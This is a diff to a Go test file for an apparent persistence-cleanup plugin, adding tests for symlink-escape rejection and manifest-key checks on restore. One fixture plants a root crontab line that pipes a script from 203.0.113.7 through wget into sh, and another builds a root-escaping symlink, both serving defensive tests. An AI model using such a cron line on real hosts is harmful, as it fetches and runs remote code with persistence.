@@ -84,14 +84,51 @@ func TestErrorsCrossTheBoundary(t *testing.T) {
 	if err == nil {
 		t.Error("bad severity accepted")
 	}
-	// A manifest naming a path under a link that climbs out of the root.
-	q := t.TempDir()
-	m := `{"version":1,"root":"` + dir + `","entries":[{"seq":1,"op":"unlink","path":"/etc/escape/x","type":"symlink","link_target":"y"}]}`
-	if err := os.WriteFile(filepath.Join(q, persist.ManifestName), []byte(m), 0o600); err != nil {
+	// A manifest naming a path whose directory became, after the clean,
+	// a link that climbs out of the root.
+	if err := hosttest.Write(dir, hosttest.Tree{{Path: "/etc/d/x", Link: "y"}}); err != nil {
 		t.Fatal(err)
 	}
-	_, err = plugintest.Apply[RestoreOutput](ctx, NewPlugin()["restore"], RestoreInput{Manifest: filepath.Join(q, persist.ManifestName)})
+	ar, err := persist.Apply(ctx, &persist.CleanPlan{Root: dir, Changes: []persist.Change{{Path: "/etc/d/x", Op: persist.OpUnlink}}}, persist.ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(filepath.Join(dir, "etc/d")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("../../../../../../..", filepath.Join(dir, "etc/d")); err != nil {
+		t.Fatal(err)
+	}
+	_, err = plugintest.Apply[RestoreOutput](ctx, NewPlugin()["restore"], RestoreInput{Manifest: ar.ManifestPath})
 	if !errors.Is(err, persist.ErrSymlinkEscape) {
 		t.Errorf("escape: %v", err)
+	}
+}
+
+// A caller's manifest key: clean seals with it, restore needs it (a
+// missing or wrong key is persist.ErrBadManifest across the boundary).
+func TestCleanRestoreWithManifestKey(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	if err := hosttest.Write(dir, hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)); err != nil {
+		t.Fatal(err)
+	}
+	acts := NewPlugin()
+	key := "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
+	out, err := plugintest.Apply[CleanOutput](ctx, acts["clean"], CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir(), ManifestKey: key})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range []string{"", "ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"} {
+		if _, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath, ManifestKey: k}); !errors.Is(err, persist.ErrBadManifest) {
+			t.Errorf("restore with key %q: %v", k, err)
+		}
+	}
+	if _, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath, ManifestKey: "zz"}); !errors.Is(err, persist.ErrManifestKey) {
+		t.Errorf("restore with a bad key: %v", err)
+	}
+	res, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath, ManifestKey: key})
+	if err != nil || len(res.Restored) != 1 {
+		t.Fatalf("restore: %+v %v", res, err)
 	}
 }
